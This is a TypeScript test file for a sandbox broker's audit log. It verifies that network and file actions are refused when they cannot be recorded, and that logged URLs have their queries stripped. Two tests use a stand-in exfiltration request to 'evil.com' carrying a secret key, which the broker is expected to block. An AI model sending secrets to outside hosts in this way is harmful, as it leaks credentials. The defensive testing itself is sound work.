import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { callScope } from "@glovebox/testkit";
import { afterEach, beforeEach, expect, test } from "vitest";

import { PUBLIC_ADDRESS, codeOf, createLab, pluginId, requestOf, send } from "../lab.ts";

// I6: what cannot be recorded does not happen.
const network = {
  allowHttpOutbound: true,
  allowedHosts: ["api.example.com"],
  allowInsecureHttp: true,
};
const url = "http://api.example.com/";
let host = "";
beforeEach(() => {
  host = mkdtempSync(join(tmpdir(), "broker-log-"));
});
afterEach(() => rmSync(host, { recursive: true }));

test("with a full log no name is looked up, no file made, no grant given", async () => {
  const policy = {
    network,
    filesystem: { roots: [{ guest: "/data", host, allowRead: true, allowWrite: true }] },
  };
  await using lab = createLab({ policy, dns: { "*": [[PUBLIC_ADDRESS]] } });
  const grant = lab.grant();
  lab.log.refuseWith("AUDITOR_QUEUE_FULL");
  expect((await send(lab.broker.http(grant), url)).code).toBe("BROKER_NOT_RECORDED");
  expect(lab.lookUps).toEqual([]);
  const files = lab.broker.files(grant);
  expect(codeOf(await files.mkdir(callScope(), "/data/x"))).toBe("BROKER_NOT_RECORDED");
  expect(codeOf(await files.open(callScope(), "/data/x", new Set(["create", "write"])))).toBe(
    "BROKER_NOT_RECORDED",
  );
  expect(existsSync(join(host, "x"))).toBe(false);
  expect(codeOf(lab.broker.grant(pluginId(), requestOf(policy)))).toBe("BROKER_NOT_RECORDED");
  expect(lab.broker.grants(pluginId())).toEqual([grant]);
});

test("a log that throws refuses as well", async () => {
  await using lab = createLab({
    policy: { network },
    options: {
      log: {
        record(_scope, event) {
          if (event.kind !== "capability.grant") throw new Error("disk");
          const never = new Promise<never>(() => undefined);
          return {
            allowed: true,
            rule: "test",
            value: { place: 0, durable: never, sealed: never },
          };
        },
      },
    },
  });
  expect((await send(lab.broker.http(lab.grant()), url)).code).toBe("BROKER_NOT_RECORDED");
  expect(lab.lookUps).toEqual([]);
});

test("a full log does not keep a grant from being revoked", async () => {
  await using lab = createLab({ policy: { network } });
  const grant = lab.grant();
  lab.log.refuseWith("AUDITOR_QUEUE_FULL");
  expect(lab.broker.revoke(grant.id)).toBe(true);
  lab.log.accept();
  expect((await send(lab.broker.http(grant), url)).code).toBe("BROKER_REVOKED");
});

test("between the address and the connection the log is asked again", async () => {
  await using lab = createLab({
    policy: { network },
    deps: {
      async resolve() {
        lab.log.refuseWith("AUDITOR_QUEUE_FULL");
        return [PUBLIC_ADDRESS];
      },
    },
  });
  expect((await send(lab.broker.http(lab.grant()), url)).code).toBe("BROKER_NOT_RECORDED");
  expect(lab.dials).toEqual([]);
});

test("with durability `effect` an event that cannot be written stops the effect", async () => {
  await using lab = createLab({ policy: { network }, options: { auditDurability: "effect" } });
  const grant = lab.grant();
  lab.log.holdDurability();
  const sent = send(lab.broker.http(grant), url);
  lab.log.failDurability(new Error("disk full"));
  expect((await sent).code).toBe("BROKER_NOT_RECORDED");
  expect(lab.lookUps).toEqual([]);
});

test("denials are recorded with their code and rule", async () => {
  await using lab = createLab({ policy: { network } });
  await send(lab.broker.http(lab.grant()), "https://evil.com/?key=secret");
  expect(lab.log.events.at(-1)?.event).toMatchObject({
    kind: "network.request",
    success: false,
    code: "BROKER_HOST_NOT_GRANTED",
    rule: "network.hosts",
  });
});

test("half a character cannot make the log refuse the record of an attempt", async () => {
  const policy = {
    network,
    filesystem: { roots: [{ guest: "/data", host, allowRead: true, allowWrite: true }] },
  };
  await using lab = createLab({ policy });
  const grant = lab.grant();
  for (const raw of [
    "\ud800",
    `https://${"x".repeat(170)}${"\u{1f600}".repeat(40)}`,
    `/data/${"y".repeat(1_993)}\u{1f600}`,
  ]) {
    await send(lab.broker.http(grant), raw);
    await lab.broker.files(grant).stat(callScope(), raw);
  }
  const texts = lab.log.events.flatMap(({ event }) => [
    event.error,
    ...Object.values(event.details ?? {}),
  ]);
  expect(lab.log.events).toHaveLength(7);
  expect(texts.filter((text) => typeof text === "string" && !text.isWellFormed())).toEqual([]);
});

test("the query of a refused URL is not written to the log's details", async () => {
  await using lab = createLab({ policy: { network } });
  await send(lab.broker.http(lab.grant()), "https://evil.com/?key=secret");
  expect(lab.log.events.at(-1)?.event.details).toEqual({ url: "https://evil.com/" });
});
